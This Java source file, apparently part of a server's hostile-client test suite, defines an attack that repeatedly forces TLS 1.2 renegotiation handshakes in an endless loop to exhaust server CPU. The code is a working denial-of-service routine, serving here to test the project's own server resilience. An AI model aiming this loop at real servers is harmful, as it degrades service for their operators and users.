package dev.eldest.server.hostile.attacks;

import dev.eldest.server.hostile.Attack;
import dev.eldest.server.hostile.Stranger;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import javax.net.ssl.SSLSocket;

/** TLS 1.2 clients that want another handshake, and another: dear for the server, cheap for them. */
public final class Renegotiations implements Attack {
    @Override
    public void visit(Stranger stranger) throws IOException, InterruptedException {
        try (SSLSocket socket = stranger.secure(stranger.knock(), "TLSv1.2")) {
            byte[] help = "help\n".getBytes(StandardCharsets.US_ASCII);
            while (true) {
                socket.getSession().invalidate();
                socket.startHandshake();
                socket.getOutputStream().write(help);
                if (socket.getInputStream().read(new byte[1 << 14]) < 0) {
                    return;
                }
                stranger.pause(200);
            }
        }
    }
}
